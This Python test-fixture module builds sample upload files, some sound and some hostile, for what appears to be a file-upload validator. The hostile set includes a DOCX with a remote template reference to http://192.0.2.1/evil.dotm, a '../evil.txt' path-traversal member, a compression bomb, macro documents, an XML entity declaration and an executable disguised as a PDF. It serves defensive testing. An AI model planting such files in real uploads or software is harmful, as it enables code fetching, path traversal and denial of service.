"""Small files of every kind, sound and hostile, made by hand."""

import io
import struct
import zipfile
import zlib

import xlsxwriter

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
_DOCUMENT = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
)


def pdf(text: str = "drawing") -> bytes:
    """A document of one empty page that carries a text."""
    return f"%PDF-1.4\n% {text}\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".encode()


def png() -> bytes:
    """A picture of one pixel."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    """The beginning and the end of a picture."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def webp(missing: int = 0) -> bytes:
    """A picture, or one of which some bytes are missing."""
    content = b"WEBPVP8L" + struct.pack("<I", 8) + b"\x2f" + bytes(7)
    return b"RIFF" + struct.pack("<I", len(content) + missing) + content


def xlsx(text: str = "尺寸") -> bytes:
    """A workbook of one cell."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as workbook:
        workbook.add_worksheet().write_string(0, 0, text)
    return file.getvalue()


def docx(text: str = "图纸", more: dict[str, str | bytes] | None = None) -> bytes:
    """A document of one line, with more members."""
    return package({"[Content_Types].xml": _TYPES, "word/document.xml": _DOCUMENT.format(text=text), **(more or {})})


def package(parts: dict[str, str | bytes]) -> bytes:
    """A zip archive of these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


SOUND = {
    "图纸.pdf": (pdf(), "application/pdf"),
    "照片.JPG": (jpeg(), "image/jpeg"),
    "照片.png": (png(), "image/png"),
    "照片.webp": (webp(), "image/webp"),
    "尺寸.xlsx": (xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "说明.docx": (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "数据.csv": ("编号,尺寸\n1,2.5\n".encode("utf-8-sig"), "text/csv"),
    "说明.txt": ("第一行\r\n第二行\t完\n".encode(), "text/plain"),
}
"""Name → content and media type of what is taken."""

HOSTILE = {
    "empty.pdf": (b"", "empty"),
    "program.pdf": (b"MZ\x90\x00" + bytes(60), "kind"),
    "cut-off.pdf": (pdf()[:-8], "truncated"),
    "cut-off.webp": (webp(missing=100), "truncated"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "kind"),
    "gbk.txt": ("编号".encode("gbk"), "kind"),
    "control.txt": (b"a\x1b[2Jb", "kind"),
    "nul.csv": (b"a,\0\n", "kind"),
    "archive.docx": (package({"readme.txt": "x"}), "kind"),
    "cut-off.docx": (docx()[:-30], "truncated"),
    "macro.docx": (docx(more={"word/vbaProject.bin": b"x"}), "macro"),
    "macro-type.docx": (
        package({"[Content_Types].xml": "<x>macroEnabled</x>", "word/document.xml": "<x/>"}),
        "macro",
    ),
    "template.docx": (docx(more={"word/_rels/settings.xml.rels": _RELATIONS}), "macro"),
    "path.docx": (docx(more={"../evil.txt": "x"}), "member-name"),
    "entities.docx": (docx(more={"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]>'}), "entities"),
    "bomb.docx": (docx(more={"word/media/a": bytes(20_000_000)}), "bomb"),
}
"""Name → content of what is not taken, and the rule that it breaks."""
